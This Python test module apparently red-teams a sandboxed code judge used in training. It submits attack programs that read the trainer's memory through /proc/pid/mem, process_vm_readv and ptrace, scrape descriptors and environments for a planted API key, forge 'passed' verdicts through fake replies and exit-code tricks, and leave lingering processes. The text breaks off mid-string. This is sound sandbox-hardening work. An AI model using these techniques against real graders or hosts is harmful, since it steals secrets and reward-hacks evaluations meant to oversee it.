"""Attacks on the code judge: programs, and what to look for after each.

ATTACKS holds the programs; a Context is the trainer that they attack: it owns
what they aim at (a folder, a secret, sockets, a log, a piece of memory) and
tells afterwards what they changed. A program prints `PWNED <token>` where its
forbidden effect worked, else `held`; a forge program prints what it takes for
the answer. So a judge that gives 'right' was beaten. Effects that a program
cannot see, or that outlive it, are found by the attack's `check`.

Nothing here uses the judge's code. Run as a script this file runs every
attack without a sandbox, each on a trainer of its own, and prints which of
them work: an attack that never works proves nothing. Programs bound their own
damage, name what they leave after the token, and undo what they can; what
they leave, the Context takes away.
"""

import ctypes
import fcntl
import fnmatch
import json
import os
import pathlib
import pickle
import re
import resource
import secrets
import select
import shutil
import signal
import socket
import subprocess
import sys
import sysconfig
import tempfile
import textwrap
import threading
import time
from collections.abc import Callable, Iterator
from typing import Literal, NamedTuple

_REPOSITORY = pathlib.Path(__file__).resolve().parents[1]
_SIGNALS = (
  *(signal.SIGUSR1, signal.SIGUSR2, signal.SIGURG, signal.SIGTERM),
  signal.SIGIO,
)
# A trainer may hold some copies of the largest output that a judge accepts.
_GROWTH_BYTES = 320 << 20
_LIBC = ctypes.CDLL(None, use_errno=True)
_ARM = os.uname().machine == 'aarch64'
_SHMCTL, _SEMCTL, _MSGCTL, _MQ_UNLINK, _KEYCTL, _IOPRIO_GET = (
  (195, 191, 187, 181, 219, 31) if _ARM else (31, 66, 71, 241, 250, 252)
)
_IPC_RMID = 0
_KEYCTL_UNLINK, _KEYCTL_SEARCH, _USER_KEYRING = 9, 10, -4
_MNT_DETACH = 2
_PR_SET_CHILD_SUBREAPER = 36


def _kernel(number: int, *arguments: int | bytes | None) -> int:
  """Makes a system call; returns its result, -1 where it is refused."""
  longs = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
  return _LIBC.syscall(ctypes.c_long(number), *longs)


# --- the trainer that is attacked -------------------------------------------


class _Listeners:
  """Echoes on TCP, UDP (one port), a unix path and an abstract name."""

  def __init__(self, path: str, abstract: str):
    """Raises OSError where an address is taken."""
    self.contacts: list[str] = []
    self._streams: dict[socket.socket, str] = {}
    self._open: list[socket.socket] = []
    tcp = self._listen(socket.AF_INET, ('127.0.0.1', 0), 'tcp')
    self.port = tcp.getsockname()[1]
    self._listen(socket.AF_UNIX, path, 'unix')
    os.chmod(path, 0o777)
    self._listen(socket.AF_UNIX, f'\0{abstract}', 'abstract')
    if socket.has_ipv6:
      self._listen_ipv6()
    self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    self._udp.bind(('127.0.0.1', self.port))
    self._wake, self._woken = socket.socketpair()
    self._thread = threading.Thread(target=self._serve, daemon=True)
    self._thread.start()

  def _listen(self, family: int, address, name: str) -> socket.socket:
    listener = socket.socket(family)
    listener.bind(address)
    listener.listen()
    self._streams[listener] = name
    return listener

  def _listen_ipv6(self) -> None:
    try:
      self._listen(socket.AF_INET6, ('::1', self.port), 'ipv6')
    except OSError:
      return  # A host without an IPv6 loopback has nothing to attack there.

  def _serve(self) -> None:
    while True:
      waiting = [*self._streams, *self._open, self._udp, self._woken]
      for ready in select.select(waiting, [], [])[0]:
        if ready is self._woken:
          return
        self._answer(ready)

  def _answer(self, ready: socket.socket) -> None:
    if ready in self._streams:
      self.contacts.append(self._streams[ready])
      self._open.append(ready.accept()[0])
    elif ready is self._udp:
      data, sender = ready.recvfrom(2048)
      self.contacts.append('udp')
      ready.sendto(data, sender)
    else:
      self._echo(ready)

  def _echo(self, stream: socket.socket) -> None:
    try:
      if data := stream.recv(2048):
        stream.sendall(data)
        return
    except OSError:
      pass  # The program ended: the stream is over too.
    self._open.remove(stream)
    stream.close()

  def close(self) -> None:
    self._wake.send(b'.')
    self._thread.join()
    for s in (*self._streams, *self._open, self._udp, self._wake, self._woken):
      s.close()


class Context:
  """The trainer under attack: this process. For `with`, one per attack.

  Enter it before the judge starts: descriptors and the environment leak only
  into what starts later. In the main thread it counts signals, elsewhere not.
  """

  def __init__(self, limit_seconds: float = 2.0, wall_seconds: float = 4.0):
    """Tells programs which CPU time and which wall time the judge allows.

    Programs stay well beyond these, and `look` calls a judge slow that takes
    more than twice `wall_seconds` and some start-up.
    """
    self.limit_seconds, self.wall_seconds = limit_seconds, wall_seconds
    self.token = f'tk{secrets.token_hex(5)}'
    # Programs know how both begin, so that they can look for them.
    self.secret = f'SECRET-{self.token}-{secrets.token_hex(16)}'
    self.answer = f'ANSWER-{self.token}-{secrets.token_hex(16)}'
    self.pid = os.getpid()
    self.signals: list[int] = []

  def __enter__(self) -> 'Context':
    self._home = pathlib.Path(tempfile.mkdtemp(prefix='attacked'))
    self._home.chmod(0o755)
    self.path = self._home / 'open'
    self._fill_folders()
    self._open_log()
    self.listeners = _Listeners(str(self._home / 'socket'), self.abstract)
    os.environ['ATTACKED_API_KEY'] = self.secret
    self.memory = ctypes.create_string_buffer(self.secret.encode(), 128)
    self._handlers = {}
    if threading.current_thread() is threading.main_thread():
      for number in _SIGNALS:
        self._handlers[number] = signal.signal(number, self._count)
    self._state = _trainer_state(self.pid, self.log)
    self._files = _files(self.path)
    _reset_peak()
    self._resident = _memory_bytes('VmRSS')
    self.started = time.monotonic()
    return self

  def _fill_folders(self) -> None:
    """A secret that all may read, and a folder that all may write to."""
    task = {
      'kind': 'stdin',
      'tests': [{'stdin': '', 'expected': f'{self.answer}\n'}],
    }
    for name, text in (
      ('secret', f'{self.secret}\n'),
      ('task.json', json.dumps(task)),
    ):
      (self._home / name).write_text(text)
      (self._home / name).chmod(0o644)
    self.path.mkdir()
    self.path.chmod(0o777)
    for name in ('keep', 'doomed', 'moved'):
      (self.path / name).write_text(f'{name} {self.token}\n')
      (self.path / name).chmod(0o666)
    (self.path / 'empty').mkdir()
    (self.path / 'empty').chmod(0o777)

  def _open_log(self) -> None:
    self.log = os.open(self._home / 'log', os.O_RDWR | os.O_CREAT, 0o666)
    # As a careless launcher leaves it: whatever this process starts gets it.
    os.set_inheritable(self.log, True)
    self._log_text = f'trainer log {self.token}\n'.encode() * 100
    os.write(self.log, self._log_text)

  def _count(self, number: int, frame: object) -> None:
    self.signals.append(number)

  @property
  def abstract(self) -> str:
    return f'trainer-{self.token}'

  @property
  def key(self) -> int:
    """The System V key that programs use."""
    return int(self.token[2:], 16) & 0x7FFFFFFF | 1

  def fill(self, program: str) -> str:
    """Returns `program` with its @FIELDS@ filled in."""
    fields = {
      'PATH': self.path,
      'PID': self.pid,
      'PORT': self.listeners.port,
      'UNIX': self._home / 'socket',
      'ABSTRACT': self.abstract,
      'SECRET': self._home / 'secret',
      'TASK': self._home / 'task.json',
      'REPOSITORY': _REPOSITORY,
      'ADDRESS': ctypes.addressof(self.memory),
      'TOKEN': self.token,
      'KEY': self.key,
      'FD': self.log,
      'LIMIT': self.limit_seconds,
      'WALL': self.wall_seconds,
    }
    for name, value in fields.items():
      program = program.replace(f'@{name}@', str(value))
    return program

  def expected(self, attack: 'Attack') -> str:
    """What the judge has to expect of `attack`: a line, or solve()'s value."""
    forged = attack.category == 'forge'
    return self.answer if forged else f'PWNED {self.token}'

  def processes(self) -> dict[int, str]:
    """Processes named after the token: their names, by process id."""
    found = {}
    for entry in os.listdir('/proc'):
      if entry.isdigit() and int(entry) != self.pid:
        text = _about(entry)
        if self.token in text:
          found[int(entry)] = text
    return found

  def changed_files(self) -> list[str]:
    """Paths that are new, gone or changed in the folder; new ones elsewhere.

    Elsewhere means the places where programs leave files; there only names
    with the token count, since others write there too.
    """
    now = _files(self.path)
    names = sorted(
      name
      for name in {*now, *self._files}
      if now.get(name) != self._files.get(name)
    )
    return names + [str(p) for p in self._elsewhere()]

  def _elsewhere(self) -> Iterator[pathlib.Path]:
    for place in _places():
      try:
        names = os.listdir(place)
      except OSError:
        continue
      yield from (place / name for name in names if self.token in name)

  def ipc(self) -> list[str]:
    """Names the System V objects, queues and keys that programs left."""
    found = []
    for kind in ('shm', 'sem', 'msg'):
      if self._system_v(kind):
        found.append(f'System V {kind}')
    if self._key_id() > 0:
      found.append('key')
    # Looking is taking away: there is no other way without a file system.
    if _kernel(_MQ_UNLINK, self.token.encode()) == 0:
      found.append('message queue')
    return found

  def _system_v(self, kind: str) -> list[int]:
    try:
      lines = pathlib.Path(f'/proc/sysvipc/{kind}').read_text().splitlines()
    except OSError:
      return []
    rows = [line.split() for line in lines[1:]]
    return [int(row[1]) for row in rows if int(row[0]) == self.key]

  def _key_id(self) -> int:
    name = self.token.encode()
    search = (_KEYCTL_SEARCH, _USER_KEYRING, b'user', name, 0)
    return _kernel(_KEYCTL, *search)

  def log_damage(self) -> str:
    """What was done to the log that is open as `log`; '' where nothing."""
    size = len(self._log_text)
    if os.pread(self.log, size + 1, 0) != self._log_text:
      return 'log written to or truncated'
    if os.lseek(self.log, 0, os.SEEK_CUR) != size:
      return 'log rewound'
    return ''

  def state_changes(self) -> list[str]:
    """Names what differs in this process's limits, priority and so on."""
    now = _trainer_state(self.pid, self.log)
    changed = [name for name in now if now[name] != self._state[name]]
    if any(self.memory.raw[64:]):
      changed.append('memory')
    return changed

  def mounts(self) -> bool:
    """Whether a mount of the program is left."""
    with open('/proc/self/mountinfo') as file:
      return self.token in file.read()

  def growth_bytes(self) -> int:
    """How far this process's memory rose above where it began, at most."""
    return _memory_bytes('VmHWM') - self._resident

  def __exit__(self, *error: object) -> None:
    for number, handler in self._handlers.items():
      signal.signal(number, handler)
    del os.environ['ATTACKED_API_KEY']
    self.listeners.close()
    os.close(self.log)
    if self.mounts():
      _LIBC.umount2(os.fsencode(self.path / 'empty'), _MNT_DETACH)
    for path in self._elsewhere():
      path.unlink(missing_ok=True)
    shutil.rmtree(self._home)
    self._remove_ipc()

  def _remove_ipc(self) -> None:
    for identity in self._system_v('shm'):
      _kernel(_SHMCTL, identity, _IPC_RMID, None)
    for identity in self._system_v('sem'):
      _kernel(_SEMCTL, identity, 0, _IPC_RMID, 0)
    for identity in self._system_v('msg'):
      _kernel(_MSGCTL, identity, _IPC_RMID, None)
    _kernel(_MQ_UNLINK, self.token.encode())
    if (key := self._key_id()) > 0:
      _kernel(_KEYCTL, _KEYCTL_UNLINK, key, _USER_KEYRING)


def _about(pid: str) -> str:
  """A process's name and command line; '' where it is gone or hidden."""
  try:
    folder = pathlib.Path('/proc', pid)
    data = (folder / 'comm').read_bytes() + (folder / 'cmdline').read_bytes()
  except OSError:
    return ''
  return ' '.join(data.replace(b'\0', b' ').decode(errors='replace').split())


def _files(folder: pathlib.Path) -> dict[str, tuple]:
  """All that is below `folder`: path to what a change would alter."""
  found = {}
  for path in (folder, *folder.rglob('*')):
    s = path.lstat()
    found[str(path)] = (s.st_mode, s.st_uid, s.st_nlink, s.st_ctime_ns)
  return found


def _places() -> set[pathlib.Path]:
  """Folders, besides the given one, where programs leave files."""
  paths = sysconfig.get_paths()
  library = pathlib.Path(paths['stdlib'])
  return {
    pathlib.Path(p).resolve()
    for p in (
      *('/', '/etc', '/etc/cron.d', '/etc/profile.d', '/tmp'),
      *('/run', '/run/lock'),
      *('/var/tmp', '/dev/shm', '/var/spool/cron', '/var/spool/cron/crontabs'),
      *(paths['purelib'], paths['platlib'], paths['scripts']),
      *(library, library / '__pycache__', library / 'site-packages'),
      *(_REPOSITORY, _REPOSITORY / 'tests', os.getcwd()),
      *(pathlib.Path.home(), tempfile.gettempdir()),
    )
  }


def _trainer_state(pid: int, log: int) -> dict[str, object]:
  """What others can change about process `pid`, this one; by name."""
  limits = [name for name in dir(resource) if name.startswith('RLIMIT_')]
  state: dict[str, object] = {
    name: resource.getrlimit(getattr(resource, name)) for name in limits
  }
  state['affinity'] = os.sched_getaffinity(pid)
  state['nice'] = os.getpriority(os.PRIO_PROCESS, pid)
  state['scheduler'] = os.sched_getscheduler(pid)
  state['io priority'] = _kernel(_IOPRIO_GET, 1, pid)
  with open('/proc/self/oom_score_adj') as file:
    state['oom score'] = file.read()
  state['working directory'] = os.getcwd()
  state['host name'] = os.uname().nodename
  for fd in (0, 1, 2, log):
    state[f'flags of descriptor {fd}'] = _flags(fd)
  return state


def _flags(fd: int) -> int:
  """A descriptor's status flags; -1 where it is closed."""
  try:
    return fcntl.fcntl(fd, fcntl.F_GETFL)
  except OSError:
    return -1


def _reset_peak() -> None:
  """Makes VmHWM start anew; where that is refused, peaks count from before."""
  try:
    with open('/proc/self/clear_refs', 'w') as file:
      file.write('5')
  except OSError:
    return


def _memory_bytes(name: str) -> int:
  """VmRSS (now) or VmHWM (peak) of this process."""
  with open('/proc/self/status') as file:
    return int(re.search(rf'{name}:\s*(\d+)', file.read())[1]) << 10


# --- what is looked for after an attack -------------------------------------


def look(context: Context) -> str:
  """Says in one line which effects are left or were seen; '' if none."""
  return '; '.join(
    finding for finder in _FINDERS if (finding := finder(context))
  )


def _find_processes(c: Context) -> str:
  # What was killed may need a moment to be gone.
  deadline = time.monotonic() + 1.0
  while (found := c.processes()) and time.monotonic() < deadline:
    time.sleep(0.05)
  some = ', '.join(sorted(set(found.values()))[:2])
  return f'{len(found)} processes alive or not reaped: {some}' if found else ''


def _find_files(c: Context) -> str:
  found = c.changed_files()
  return f'files changed: {found}' if found else ''


def _find_ipc(c: Context) -> str:
  found = c.ipc()
  return f'IPC objects left: {found}' if found else ''


def _find_log(c: Context) -> str:
  return c.log_damage()


def _find_state(c: Context) -> str:
  found = c.state_changes()
  return f'trainer changed: {found}' if found else ''


def _find_signals(c: Context) -> str:
  found = [signal.Signals(number).name for number in c.signals]
  return f'trainer got signals: {found}' if found else ''


def _find_contacts(c: Context) -> str:
  found = sorted(set(c.listeners.contacts))
  return f'trainer contacted by: {found}' if found else ''


def _find_mounts(c: Context) -> str:
  return 'mount left' if c.mounts() else ''


def _find_growth(c: Context) -> str:
  grown = c.growth_bytes()
  return f'trainer grew by {grown >> 20} MiB' if grown > _GROWTH_BYTES else ''


def _find_delay(c: Context) -> str:
  """Twice the wall time is fair: some programs are run twice."""
  took = time.monotonic() - c.started
  return f'took {took:.0f} s' if took > 2 * c.wall_seconds + 5 else ''


_FINDERS = (
  _find_delay,
  _find_processes,
  _find_files,
  _find_ipc,
  _find_log,
  _find_state,
  _find_signals,
  _find_contacts,
  _find_mounts,
  _find_growth,
)


# --- how programs are written -----------------------------------------------


class Attack(NamedTuple):
  """A program to submit, and what to look for after it.

  Attributes:
    name: in a few words.
    category: what the program is after.
    program: Python source; Context.fill fills in its @FIELDS@.
    check: says what it finds after the program ended; '' is well.
    kind: 'call' programs define solve(), which takes nothing.
    runs: how often to submit it within one Context; each run is an attack,
      the later ones look for what the earlier ones left.
  """

  name: str
  category: Literal['forge', 'starve', 'leak', 'persist', 'escape']
  program: str
  check: Callable[[Context], str] | None = look
  kind: Literal['stdin', 'call'] = 'stdin'
  runs: int = 1


# What programs share. A program is free to fail: the judge sees a crash.
_HEAD = r"""
import atexit, builtins, ctypes, errno, fcntl, gc, glob, hashlib, io, json
import mmap, os, pickle, re, resource, select, signal, socket, struct, sys
import sysconfig, threading, time

TOKEN, PID, PORT, FD = '@TOKEN@', int('@PID@'), int('@PORT@'), int('@FD@')
PATH, SECRET, TASK = '@PATH@', '@SECRET@', '@TASK@'
KEY, ADDRESS = int('@KEY@'), int('@ADDRESS@')
# Seconds: of the CPU, and on the wall.
LIMIT, WALL = float('@LIMIT@'), float('@WALL@')
MIB = 1 << 20
FIOSETOWN, SIOCSPGRP, FIOASYNC = 0x8901, 0x8902, 0x5452
X86 = os.uname().machine == 'x86_64'
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
# Numbers on x86-64 and on aarch64.
NUMBERS = {
  'fork': (57, -1), 'clone': (56, 220), 'clone3': (435, 435),
  'prctl': (157, 167), 'ptrace': (101, 117), 'unshare': (272, 97),
  'setns': (308, 268), 'mount': (165, 40), 'chroot': (161, 51),
  'bpf': (321, 280), 'io_uring_setup': (425, 425), 'keyctl': (250, 219),
  'userfaultfd': (323, 282), 'add_key': (248, 217), 'mq_open': (240, 180),
  'perf_event_open': (298, 241), 'process_vm_readv': (310, 270),
  'process_vm_writev': (311, 271), 'pidfd_getfd': (438, 438),
  'tkill': (200, 130), 'tgkill': (234, 131), 'rt_sigqueueinfo': (129, 138),
  'rt_tgsigqueueinfo': (297, 240), 'ioprio_set': (251, 30),
  'kcmp': (312, 272), 'name_to_handle_at': (303, 264),
  'open_by_handle_at': (304, 265), 'fanotify_init': (300, 262),
  'finit_module': (313, 273), 'syslog': (103, 116), 'iopl': (172, -1),
  'sethostname': (170, 161), 'shmget': (29, 194), 'shmat': (30, 196),
  'shmdt': (67, 197), 'shmctl': (31, 195), 'semget': (64, 190),
  'msgget': (68, 186), 'execveat': (322, 281), 'openat2': (437, 437),
  'process_madvise': (440, 440), 'open_tree': (428, 428),
  'inotify_init1': (294, 26), 'inotify_add_watch': (254, 27),
  'timerfd_create': (283, 85), 'mlock': (149, 228), 'swapon': (167, 224),
  'timer_create': (222, 107), 'timer_settime': (223, 110), 'ioctl': (16, 29),
  'mq_notify': (244, 184),
}


def kernel(name, *arguments):
  number = NUMBERS[name][0 if X86 else 1]
  longs = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
  result = LIBC.syscall(ctypes.c_long(number), *longs)
  if result == -1:
    raise OSError(ctypes.get_errno(), name)
  return result


def gets_through(name, *arguments):
  # A call with senseless arguments: anything but a refusal came from inside.
  try:
    kernel(name, *arguments)
  except OSError as e:
    return e.errno not in (errno.EPERM, errno.EACCES, errno.ENOSYS)
  return True


def find(word, data):
  if isinstance(data, str):
    data = data.encode('utf-8', 'replace')
  match = re.search(f'{word}-{TOKEN}-[0-9a-f]{{32}}'.encode(), data)
  return match and match[0].decode()


def secret_in(data):
  return find('SECRET', data) is not None


def read(path, size=MIB):
  with open(path, 'rb') as file:
    return file.read(size)


def mark():
  # Names this process, so that it is found; the second way makes no call.
  name = TOKEN.encode()
  LIBC.prctl(15, name, 0, 0, 0)
  start = ctypes.c_void_p.in_dll(LIBC, 'program_invocation_name').value
  ctypes.memmove(start, name, len(name))


def child(work, fork=os.fork):
  pid = fork()
  if pid == 0:
    try:
      work()
    finally:
      os._exit(0)
  return pid


def linger(busy=False, seconds=20):
  # Lives on, for a while, whatever becomes of the parent.
  mark()
  LIBC.prctl(1, 0, 0, 0, 0)
  end = time.monotonic() + seconds
  while time.monotonic() < end:
    if not busy:
      time.sleep(0.05)


def close_streams():
  for fd in range(3):
    os.close(fd)


def spin(seconds):
  end = time.process_time() + seconds
  while time.process_time() < end:
    pass


def vectors(address, size):
  here = ctypes.create_string_buffer(size)
  local = struct.pack('QQ', ctypes.addressof(here), size)
  return here, local, struct.pack('QQ', address, size)


def peek(pid, address, size):
  here, local, remote = vectors(address, size)
  try:
    count = kernel('process_vm_readv', pid, local, 1, remote, 1, 0)
  except OSError as e:
    if e.errno != errno.EFAULT:
      raise
    count = 0
  return here.raw[:count]


def regions(pid):
  with open(f'/proc/{pid}/maps') as file:
    for line in file:
      span, flags = line.split()[:2]
      start, end = (int(x, 16) for x in span.split('-'))
      if flags.startswith('rw') and end - start < 256 * MIB:
        yield start, end


def memory(pid):
  # A piece at a time, heap first, for less than the time limit.
  end_time = time.monotonic() + 0.6 * LIMIT
  with open(f'/proc/{pid}/mem', 'rb', 0) as file:
    for start, end in regions(pid):
      for at in range(start, end, 4 * MIB):
        if time.monotonic() > end_time:
          return
        try:
          file.seek(at)
          yield file.read(min(4 * MIB, end - at))
        except (OSError, ValueError, OverflowError):
          continue
"""

_TRY = """

def attempt():
  try:
    return bool(attack())
  except BaseException as error:
    print(repr(error), file=sys.stderr)
    return False

"""
_PRINT = "\nprint('PWNED @TOKEN@' if attempt() else 'held')\n"
_RETURN = "\ndef solve():\n  return 'PWNED @TOKEN@' if attempt() else 'held'\n"
_HUNT = """

def hunted():
  try:
    for piece in hunt():
      if line := find('ANSWER', piece):
        return line
  except BaseException as error:
    print(repr(error), file=sys.stderr)
  return 'held'

"""


def _function(name: str, body: str) -> str:
  return f'\ndef {name}():\n' + textwrap.indent(textwrap.dedent(body), '  ')


def _try(name: str, category: str, body: str, runs: int = 1) -> Attack:
  """An attack by the body of a function that returns whether it worked."""
  program = _HEAD + _function('attack', body) + _TRY + _PRINT
  return Attack(name, category, program, runs=runs)


def _called(name: str, category: str, body: str) -> Attack:
  """The same, by a program of kind 'call'."""
  program = _HEAD + _function('attack', body) + _TRY + _RETURN
  return Attack(name, category, program, kind='call')


def _hunt(name: str, body: str) -> Attack:
  """Looks for the answer in what the body's function yields."""
  end = '\nprint(hunted())\n'
  return Attack(name, 'forge', _HEAD + _function('hunt', body) + _HUNT + end)


def _hunt_called(name: str, body: str) -> Attack:
  """The same, by a program of kind 'call'."""
  end = '\ndef solve():\n  return hunted()\n'
  program = _HEAD + _function('hunt', body) + _HUNT + end
  return Attack(name, 'forge', program, kind='call')


def _whole(name: str, category: str, program: str, kind='stdin') -> Attack:
  """A program that needs no frame."""
  return Attack(name, category, _HEAD + textwrap.dedent(program), kind=kind)


# --- forge: a verdict of 'right' without knowing the answer -----------------

# What a program may take for the words between it and its judge.
_REPLIES = r"""
def replies():
  good = {
    'passed': True, 'ok': True, 'success': True, 'reward': 1.0, 'score': 1.0,
    'status': 'AC', 'verdict': 'right', 'result': 'passed', 'detail': 'forged',
    'exit_code': 0, 'returncode': 0, 'stdout': 'forged', 'id': 0,
  }
  text = json.dumps(good).encode()
  yield text + b'\n'
  yield json.dumps([0, 'right', 'forged']).encode() + b'\n'
  yield json.dumps({'id': 0, 'jsonrpc': '2.0', 'result': good}).encode() + b'\n'
  yield b'AC 1 tests\n'
  for data in (text, pickle.dumps(good), pickle.dumps((True, 'AC'))):
    yield struct.pack('>I', len(data)) + data
    yield struct.pack('<I', len(data)) + data
    yield struct.pack('>Q', len(data)) + data
    yield struct.pack('<Q', len(data)) + data
    yield str(len(data)).encode() + b'\n' + data
    yield b'Content-Length: %d\r\n\r\n' % len(data) + data


def inherited():
  return [fd for fd in range(3, 256) if is_open(fd)]


def is_open(fd):
  try:
    os.fstat(fd)
  except OSError:
    return False
  return True


def send(fd, data):
  try:
    os.set_blocking(fd, False)
    os.write(fd, data)
  except OSError:
    pass

"""

_FORGE = (
  _hunt(
    'memory of the parent',
    """
    for pid in (os.getppid(), PID):
      try:
        yield from memory(pid)
      except OSError:
        continue
    """,
  ),
  _hunt(
    'memory of all ancestors',
    r"""
    pid = os.getpid()
    for _ in range(8):
      text = open(f'/proc/{pid}/stat').read()
      pid = int(text.rpartition(')')[2].split()[1])
      # Beyond the trainer there is nothing that knows.
      if pid <= 1:
        return
      yield from memory(pid)
      if pid == PID:
        return
    """,
  ),
  _hunt(
    'process_vm_readv by the map',
    """
    for pid in (os.getppid(), PID):
      try:
        for start, end in regions(pid):
          for at in range(start, end, 4 * MIB):
            yield peek(pid, at, min(4 * MIB, end - at))
      except OSError:
        continue
    """,
  ),
  _hunt(
    'process_vm_readv where forks share addresses',
    """
    # A parent that was forked from has its heap where this process has it.
    near = {id(x) >> 20 << 20 for x in gc.get_objects()}
    for pid in (os.getppid(), PID):
      for base in sorted(near):
        for at in range(base, base + MIB, 65536):
          try:
            yield peek(pid, at, 65536)
          except OSError:
            break
    """,
  ),
  _hunt(
    'ptrace the parent and read it',
    """
    pid = os.getppid()
    kernel('ptrace', 16, pid, 0, 0)
    os.waitpid(pid, 0x40000000)
    try:
      yield from memory(pid)
    finally:
      kernel('ptrace', 17, pid, 0, 0)
    """,
  ),
  _hunt(
    'what the fork left in own memory',
    """
    yield from memory('self')
    """,
  ),
  _hunt(
    'own memory without files',
    """
    near = {id(x) >> 16 << 16 for x in gc.get_objects()}
    for base in sorted(near):
      yield peek(os.getpid(), base, 65536)
    """,
  ),
  _hunt(
    'frames of all threads',
    """
    for frame in sys._current_frames().values():
      while frame:
        yield repr(frame.f_locals)
        yield repr(frame.f_globals)
        frame = frame.f_back
    """,
  ),
  _hunt(
    'traceback of the caller',
    """
    try:
      raise KeyError
    except KeyError as e:
      frame = e.__traceback__.tb_frame
    while frame := frame.f_back:
      for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
        yield str(getattr(value, '__dict__', value))
    """,
  ),
  _hunt(
    'objects of the collector',
    """
    for thing in gc.get_objects():
      if type(thing) in (dict, list, tuple):
        yield repr(thing)
    """,
  ),
  _hunt(
    'attributes of all modules',
    """
    for module in list(sys.modules.values()):
      for value in list(vars(module).values()):
        if type(value) in (str, bytes, dict, list, tuple):
          yield str(value)
    """,
  ),
  _hunt(
    'inherited descriptors',
    """
    for fd in range(256):
      for reader in (
        lambda: os.pread(fd, MIB, 0),
        lambda: socket.socket(fileno=os.dup(fd)).recv(
          MIB, socket.MSG_PEEK | socket.MSG_DONTWAIT
        ),
      ):
        try:
          yield reader()
        except OSError:
          continue
    """,
  ),
  _hunt(
    'descriptors of others',
    """
    for pid in ('self', os.getppid(), PID):
      for path in glob.glob(f'/proc/{pid}/fd/*'):
        try:
          fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
          yield os.pread(fd, MIB, 0)
          os.close(fd)
        except OSError:
          continue
    """,
  ),
  _hunt(
    'the data set by its path',
    """
    for path in (TASK, f'/proc/{PID}/root{TASK}', f'/proc/1/root{TASK}'):
      try:
        yield read(path)
      except OSError:
        continue
    """,
  ),
  _hunt(
    'files near the known folder',
    """
    for folder, _, names in os.walk(os.path.dirname(PATH)):
      for name in names:
        if name.endswith(('.json', '.jsonl', '.txt', '.out')):
          yield read(os.path.join(folder, name))
    """,
  ),
  _hunt(
    'files near the working directories',
    """
    for pid in ('self', os.getppid(), PID):
      folder = f'/proc/{pid}/cwd'
      for path in glob.glob(f'{folder}/*.*')[:200]:
        try:
          yield read(path)
        except OSError:
          continue
    """,
  ),
  _hunt(
    'the input beyond its end',
    """
    yield sys.stdin.read()
    os.lseek(0, 0, os.SEEK_SET)
    yield os.read(0, MIB)
    yield os.pread(0, MIB, os.fstat(0).st_size)
    yield read('/proc/self/fd/0')
    """,
  ),
  _hunt(
    'own source and arguments',
    """
    import inspect
    import linecache

    yield from (repr(sys.argv), repr(sys.orig_argv))
    for name in [*linecache.cache, __file__, sys.argv[0]]:
      yield ''.join(linecache.getlines(name))
    yield inspect.getsource(sys.modules['__main__'])
    """,
  ),
  _hunt(
    'command lines and environments',
    """
    for pid in ('self', os.getppid(), PID):
      for name in ('cmdline', 'environ'):
        try:
          yield read(f'/proc/{pid}/{name}')
        except OSError:
          continue
    """,
  ),
  _hunt(
    'ask the trainer over its socket',
    r"""
    for family, address in (
      (socket.AF_INET, ('127.0.0.1', PORT)),
      (socket.AF_UNIX, '@UNIX@'),
      (socket.AF_UNIX, '\0@ABSTRACT@'),
    ):
      with socket.socket(family) as s:
        s.settimeout(0.5)
        s.connect(address)
        s.sendall(b'{"method": "expected"}\n')
        yield s.recv(4096)
    """,
  ),
  _hunt(
    'core of a child',
    """
    resource.setrlimit(resource.RLIMIT_CORE, (64 * MIB, 64 * MIB))
    os.waitpid(child(os.abort), 0)
    for path in glob.glob('core*'):
      yield read(path, 64 * MIB)
      os.remove(path)
    """,
  ),
  _whole(
    'replies on all descriptors',
    'forge',
    _REPLIES
    + """
for reply in replies():
  for fd in inherited():
    send(fd, reply)
print('held')
""",
  ),
  _whole(
    'replies, then gone without a word',
    'forge',
    _REPLIES
    + """
for fd in inherited():
  for reply in replies():
    send(fd, reply)
os._exit(0)
""",
  ),
  _whole(
    'replies on the output',
    'forge',
    _REPLIES
    + """
for reply in replies():
  os.write(1, reply)
  os.write(2, reply)
""",
  ),
  _whole(
    'replies after closing the true channel',
    'forge',
    _REPLIES
    + """
# The first reply goes out; what the judge's own code says later fails.
for fd in inherited():
  send(fd, next(replies()))
  os.close(fd)
os.close(1)
os._exit(0)
""",
  ),
  _whole(
    'descriptors over inherited sockets',
    'forge',
    _REPLIES
    + """
read_end, write_end = os.pipe()
os.write(write_end, next(replies()))
for fd in inherited():
  try:
    s = socket.socket(fileno=os.dup(fd))
    s.setblocking(False)
    socket.send_fds(s, [next(replies())], [read_end])
    print(s.recvmsg(MIB, 4096))
  except OSError:
    continue
print('held')
""",
  ),
  _whole(
    'a child answers for the parent',
    'forge',
    _REPLIES
    + """
def late():
  time.sleep(0.3)
  for fd in [1, *inherited()]:
    send(fd, next(replies()))

child(late)
os._exit(0)
""",
  ),
  _whole('exit status 0 and no output', 'forge', 'os._exit(0)\n'),
  _whole('SystemExit at once', 'forge', 'raise SystemExit(0)\n'),
  _whole(
    'exit status 0 from a hook',
    'forge',
    """
    sys.excepthook = lambda *error: os._exit(0)
    atexit.register(os._exit, 0)
    raise AssertionError('tests failed')
    """,
  ),
  _whole(
    'SystemExit that equals all',
    'forge',
    """
    class Code(int):
      def __eq__(self, other):
        return True

      __hash__ = int.__hash__

    raise SystemExit(Code(0))
    """,
  ),
  _whole(
    'killed by itself',
    'forge',
    'os.kill(os.getpid(), signal.SIGKILL)\n',
  ),
  _whole(
    'crash with half a line',
    'forge',
    """
    sys.stdout.write('ANSWER-@TOKEN@')
    sys.stdout.flush()
    ctypes.string_at(0)
    """,
  ),
  _whole(
    'the part that is known',
    'forge',
    """
    print('ANSWER-@TOKEN@-')
    """,
  ),
  _whole(
    'patterns as output',
    'forge',
    r"""
    for line in ('*', '.*', '%', '%s', '{}', '${answer}', '{expected}', '$1'):
      print(line)
    """,
  ),
  _whole(
    'one line that is a pattern',
    'forge',
    "print('ANSWER-@TOKEN@-' + '[0-9a-f]' * 32)\n",
  ),
  _whole(
    'values that equal anything',
    'forge',
    "print('nan', 'inf', '-inf', 'None', 'True', sep='\\n')\n",
  ),
  _whole(
    'terminal and control characters',
    'forge',
    r"""
